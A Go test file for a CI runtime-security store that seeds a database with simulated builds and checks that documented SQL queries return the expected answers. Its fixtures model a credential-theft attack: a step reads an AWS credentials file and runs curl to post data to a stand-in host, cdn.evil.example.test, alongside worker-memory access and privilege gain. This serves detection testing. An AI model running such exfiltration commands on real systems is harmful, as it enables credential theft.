package store

import (
	"bytes"
	"fmt"
	"io"
	"net/http"
	"os"
	"regexp"
	"slices"
	"strings"
	"testing"
	"text/tabwriter"
	"time"

	"github.com/sallyport-ci/sallyport/store/engine/enginetest"
)

// queriesNow is what the queries of the page take for now().
const queriesNow = "toDateTime('2026-11-20 12:00:00', 'UTC')"

var queryPattern = regexp.MustCompile("(?s)```sql\n(.*?)\n```\n\n```text\n(.*?)```\n")

//go:generate go test -run TestQueries -update

// TestQueries runs each query of docs/queries.md as the reader and holds the page to the
// answers.
func TestQueries(t *testing.T) {
	const page = "../docs/queries.md"
	s := open(t)
	if err := s.Migrate(t.Context()); err != nil {
		t.Fatal(err)
	}
	fillForQueries(t, s)
	data, err := os.ReadFile(page)
	if err != nil {
		t.Fatal(err)
	}
	queries := queryPattern.FindAllSubmatch(data, -1)
	if headings := bytes.Count(data, []byte("\n## ")); len(queries) != headings || headings == 0 {
		t.Fatalf("%d queries with an answer under %d headings", len(queries), headings)
	}
	for _, m := range queries {
		answer := ask(t, s.Database(), strings.ReplaceAll(string(m[1]), "now()", queriesNow))
		if strings.Count(answer, "\n") < 2 {
			t.Errorf("%s\nhas no answer: that is no test\n%s", m[1], answer)
		}
		if *update {
			data = bytes.Replace(data, m[0], fmt.Appendf(nil, "```sql\n%s\n```\n\n```text\n%s```\n", m[1], answer), 1)
		} else if answer != string(m[2]) {
			t.Errorf("%s\nsays\n%s\nand the page\n%s", m[1], answer, m[2])
		}
	}
	if *update {
		if err := os.WriteFile(page, data, 0o644); err != nil {
			t.Fatal(err)
		}
	}
}

// ask sends a query as the read-only user and returns the answer as a table.
// TestQueriesForScores: what docs/actions.md has one ask the tables for is what
// `sallyport actions score --seen` reads.
func TestQueriesForScores(t *testing.T) {
	s := open(t)
	if err := s.Migrate(t.Context()); err != nil {
		t.Fatal(err)
	}
	fillForQueries(t, s)
	data, err := os.ReadFile("../docs/actions.md")
	if err != nil {
		t.Fatal(err)
	}
	queries := regexp.MustCompile("(?s)```sql\n(.*?)\n```").FindAllSubmatch(data, -1)
	if len(queries) != 2 {
		t.Fatalf("%d queries", len(queries))
	}
	for i, want := range []string{
		`{"action":"example/upload@v1","domain":"cdn.evil.example.test","address":""}`, `{"action":"example/upload@v1"}`,
	} {
		answer := answerOf(t, s.Database(), strings.ReplaceAll(string(queries[i][1]), "now()", queriesNow))
		if !slices.Contains(strings.Split(strings.ReplaceAll(string(answer), `\/`, "/"), "\n"), want) {
			t.Errorf("%s\nhas no line %s among\n%s", queries[i][1], want, answer)
		}
	}
}

func ask(t *testing.T, database, query string) string {
	t.Helper()
	body := answerOf(t, database, query+"\nFORMAT TSVWithNames")
	// Times to the second are enough for a page.
	body = regexp.MustCompile(`(:\d\d)\.000000000`).ReplaceAll(body, []byte("$1"))
	var out bytes.Buffer
	w := tabwriter.NewWriter(&out, 0, 0, 2, ' ', 0)
	if _, err := w.Write(body); err != nil {
		t.Fatal(err)
	}
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	lines := strings.Split(out.String(), "\n")
	for i := range lines {
		lines[i] = strings.TrimRight(lines[i], " ")
	}
	return strings.Join(lines, "\n")
}

// answerOf asks as the reader does.
func answerOf(t *testing.T, database, query string) []byte {
	t.Helper()
	dsn := strings.TrimSuffix(enginetest.Start(t).ReadOnlyDSN(), "/default") + "/?database=" + database
	request, err := http.NewRequestWithContext(t.Context(), http.MethodPost, dsn, strings.NewReader(query))
	if err != nil {
		t.Fatal(err)
	}
	response, err := http.DefaultClient.Do(request)
	if err != nil {
		t.Fatal(err)
	}
	defer response.Body.Close()
	body, err := io.ReadAll(response.Body)
	if err != nil {
		t.Fatal(err)
	}
	if response.StatusCode != http.StatusOK {
		t.Fatalf("%s\n%s: %s", query, response.Status, body)
	}
	return body
}

// fillForQueries inserts two months of two repositories: a daily build, and in the last
// week a run in which a step reads a credential and sends it away.
func fillForQueries(t *testing.T, s *Store) {
	t.Helper()
	const upload, pinned = "example/upload@v1", "example/setup@0123456789abcdef0123456789abcdef01234567"
	var flows []flow
	add := func(f flow) {
		f.id = uint64(len(flows) + 1)
		f.phase = started
		end := f
		end.time, end.phase, end.sent, end.received = f.time.Add(3*time.Second), ended, 0, 5000
		flows = append(flows, f, end)
	}
	for i, day := range []time.Time{
		time.Date(2026, 10, 1, 8, 0, 0, 0, time.UTC), time.Date(2026, 11, 9, 8, 0, 0, 0, time.UTC), time.Date(2026, 11, 18, 8, 0, 0, 0, time.UTC),
	} {
		run := fmt.Sprint(i + 1)
		for j, repository := range []string{"example/app", "example/site"} {
			run := fmt.Sprint(run, []string{"", "9"}[j])
			add(flow{time: day, repository: repository, job: "build", run: run, step: "setup", action: pinned, program: "node", domain: "pkg.example.test", address: 1, sent: 700})
			add(flow{time: day.Add(time.Minute), repository: repository, job: "build", run: run, step: "upload", action: upload, program: "node", domain: "store.example.test", address: 2, sent: 90_000})
		}
	}
	attack := time.Date(2026, 11, 18, 8, 2, 0, 0, time.UTC)
	add(flow{time: attack.Add(6 * time.Second), repository: "example/app", job: "build", run: "3", step: "upload", action: upload, program: "curl", domain: "cdn.evil.example.test", address: 66, sent: 1800})
	add(flow{time: attack.Add(7 * time.Second), repository: "example/app", job: "build", run: "3", step: "test", program: "python3", address: 77, sent: 40})
	rows := flowRows(flows...)
	for i := range rows.ProcessID { // curl's
		if rows.Program[i] == "curl" {
			rows.ProcessID[i] = 22
		}
	}
	if err := s.Insert(t.Context(), "flows", rows); err != nil {
		t.Fatal(err)
	}
	const columns = "(agent_id, epoch, sequence, time, repository, workflow, run_id, run_attempt, job, execution_id, step, action, process_id, parent_process_id, program, executable, "
	number := 1000
	row := func(table, more, at, step, action, process, parent, program, values string) {
		number++
		exec(t, s, fmt.Sprintf("INSERT INTO %s %s%s) VALUES ('agent', 1, %d, '2026-11-18 08:0%s', 'example/app', 'ci', '3', 1, 'build', 'e3', '%s', '%s', %s, %s, '%s', '/usr/bin/%s', %s)",
			table, columns, more, number, at, step, action, process, parent, program, program, values))
	}
	const kind = "kind, start_time, arguments, executable_in_memory"
	row("process_events", kind, "2:00", "upload", upload, "20", "10", "bash", "'executed', '2026-11-18 08:02:00', ['bash', 'run.sh'], false")
	row("process_events", kind, "2:01", "upload", upload, "21", "20", "bash", "'forked', '2026-11-18 08:02:01', [], false")
	row("process_events", kind, "2:02", "upload", upload, "22", "21", "curl", "'executed', '2026-11-18 08:02:02', ['curl', '--data', '@-', 'https://cdn.evil.example.test/'], false")
	row("process_events", kind, "2:09", "upload", upload, "22", "21", "curl", "'exited', '2026-11-18 08:02:02', [], false")
	row("process_events", kind, "2:05", "test", "", "30", "10", "x", "'executed', '2026-11-18 08:02:05', ['x'], true")
	row("file_accesses", "operation, path, rule, category, times", "2:03", "upload", upload, "21", "20", "bash", "'read', '/home/runner/.aws/credentials', 'aws_credentials', 'credential', 2")
	row("file_accesses", "operation, path, rule, category, times", "2:04", "test", "", "30", "10", "x", "'written', '/work/app/main.go', 'source_file', 'source', 1")
	row("dns", "name, type", "2:05", "upload", upload, "22", "21", "curl", "'cdn.evil.example.test', 'A'")
	row("http_requests", "method, host, path, version, library", "2:07", "upload", upload, "22", "21", "curl", "'POST', 'cdn.evil.example.test', '/', '2', 'openssl'")
	row("http_requests", "method, host, path, version, library", "2:08", "test", "", "41", "40", "node", "'GET', 'api.github.com', '/repos/example/app/pulls/7', '1.1', 'openssl'")
	row("http_requests", "method, host, path, version, library", "2:09", "test", "", "42", "40", "git", "'POST', 'github.com', '/example/app.git/git-receive-pack', '2', 'gnutls'")
	row("process_accesses", "kind, target_process_id, target_program, target_is_worker", "2:03", "test", "", "30", "10", "x", "'proc_mem', 5, 'Runner.Worker', true")
	row("privileges", "kind, capabilities, effective_uid_before, effective_uid", "2:06", "test", "", "31", "30", "sudo", "'gained', ['CAP_SYS_ADMIN', 'CAP_BPF'], 1001, 0")
	exec(t, s, `INSERT INTO job_events (agent_id, epoch, sequence, time, kind, repository, workflow, run_id, run_attempt, job, execution_id, workflow_ref) VALUES
		('agent', 1, 1, '2026-11-18 08:00:00', 'started', 'example/app', 'ci', '3', 1, 'build', 'e3', 'example/app/.github/workflows/ci.yml@refs/heads/main'),
		('agent', 1, 2, '2026-11-17 08:00:00', 'started', 'example/app', 'ci', '2', 1, 'build', 'e2', 'example/app/.github/workflows/ci.yml@refs/heads/main'),
		('agent', 1, 3, '2026-11-17 08:00:00', 'started', 'example/app', 'ci', '2', 1, 'lint', 'e4', 'example/app/.github/workflows/ci.yml@refs/heads/main')`)
	exec(t, s, `INSERT INTO findings (id, time, repository, workflow, run_id, job, policy, severity) VALUES
		('f1', '2026-11-18 08:02:06', 'example/app', 'ci', '3', 'build', 'new_destination', 'high'),
		('f2', '2026-11-18 08:02:03', 'example/app', 'ci', '3', 'build', 'worker_memory', 'critical'),
		('f3', '2026-11-18 08:02:07', 'example/app', 'ci', '3', 'build', 'new_destination', 'medium'),
		('f0', '2026-10-01 08:00:00', 'example/site', 'ci', '19', 'build', 'new_destination', 'low')`)
	exec(t, s, `INSERT INTO agent_status (agent_id, epoch, sequence, time, events_lost, stopping, damage) VALUES
		('agent-1', 1, 1, '2026-11-20 11:59:55', {}, false, []),
		('agent-2', 1, 1, '2026-11-20 11:59:56', {'exec': 12}, false, []),
		('agent-3', 1, 1, '2026-11-19 03:00:00', {}, false, []),
		('agent-4', 1, 1, '2026-11-18 09:00:00', {}, true, [])`)
	exec(t, s, `INSERT INTO intelligence (kind, indicator, source, severity, reason, added, expires) VALUES
		('domain', 'evil.example.test', 'ours', 'critical', 'took credentials', '2026-11-19 00:00:00', NULL),
		('address', '203.0.113.66', 'feed', 'high', 'the same', '2026-11-19 00:00:00', '2100-01-01 00:00:00'),
		('address', '203.0.113.1', 'feed', 'high', 'no more', '2020-01-01 00:00:00', '2020-02-01 00:00:00'),
		('domain', 'store.example.test', 'ours', 'low', 'by mistake', '2026-11-01 00:00:00', NULL)`)
	exec(t, s, `INSERT INTO intelligence (kind, indicator, source, severity, reason, added, expires) VALUES
		('domain', 'store.example.test', 'ours', 'low', 'by mistake', '2026-11-02 00:00:00', '2020-01-01 00:00:00')`)
}

// TestReaderCannotFillIntelligence: lists are for those who may write.
func TestReaderCannotFillIntelligence(t *testing.T) {
	s := open(t)
	if err := s.Migrate(t.Context()); err != nil {
		t.Fatal(err)
	}
	dsn := strings.TrimSuffix(enginetest.Start(t).ReadOnlyDSN(), "/default") + "/?database=" + s.Database()
	request, err := http.NewRequestWithContext(t.Context(), http.MethodPost, dsn,
		strings.NewReader("INSERT INTO intelligence (kind, indicator) VALUES ('domain', 'x.example.test')"))
	if err != nil {
		t.Fatal(err)
	}
	response, err := http.DefaultClient.Do(request)
	if err != nil {
		t.Fatal(err)
	}
	response.Body.Close()
	if response.StatusCode == http.StatusOK || !slices.Equal(list(t, s, "SELECT indicator FROM intelligence"), nil) {
		t.Errorf("the reader's insert: %s", response.Status)
	}
}
